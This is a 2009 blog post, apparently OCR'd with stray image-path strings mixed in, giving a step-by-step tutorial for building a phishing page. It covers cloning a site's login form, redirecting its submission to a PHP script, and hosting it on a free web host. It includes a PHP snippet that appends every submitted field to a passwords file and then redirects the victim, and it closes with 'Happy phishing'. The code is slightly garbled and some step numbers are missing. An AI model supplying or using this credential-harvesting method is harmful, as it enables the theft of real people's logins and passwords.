Monday, September 21, 2009

Tutorial on phishing!

Hi all! heres my first tutorial and its gonna be on Phishing!

allright lets get started!

1. First things first you must choose the site which you wanna make a phisher from.

2. When you found your site right click on it and say "view source" and save it on desktop as index.htm

3. Open the "index.htm" with notepad and find search the source for the word "action=". you should find a command looking like this

or anything alike and probably more inside like "id=" and "autocomplete=".

4. change the url (in this case "RANDOM URL") to "write.php"

5. If the method is "post" then change it to "get"

5. Save index.htm

6. Time to create a free website. It MUST SUPPORT .php files so i suggest the use of Create a free website.

7. login to your website and go to "file manager"

8. delete the file thats already there called "index.htm" and upload your "index.htm" (the one you just made)

9. Create a new file called "write.php" and copy / paste this:

header("Location: http://RANDOM");
$handle = fopen("passwords.txt", "a");
foreach($_GET as $variable => $value) {
fwrite($handle, $variable);
fwrite($handle, "=");
fwrite($handle, $value);
fwrite($handle, "\r\n");
fwrite($handle, "\r\n");

10. Switch out the word "WEBSITE" with the site the browser should go to after victim wrote his/her password. so it should say like this:
header("Location: ");
you might want to change the textfile name so others wont be able to view the file.11. Save this file (write.php), and upload it to the subdomain aswell

13. test out your website. type insomething in your phisher and then go to filemanager and open the password file, what you wrote should be typed here!, you can also access the password fileby going to

Happy phishingNo comments:

Post a Comment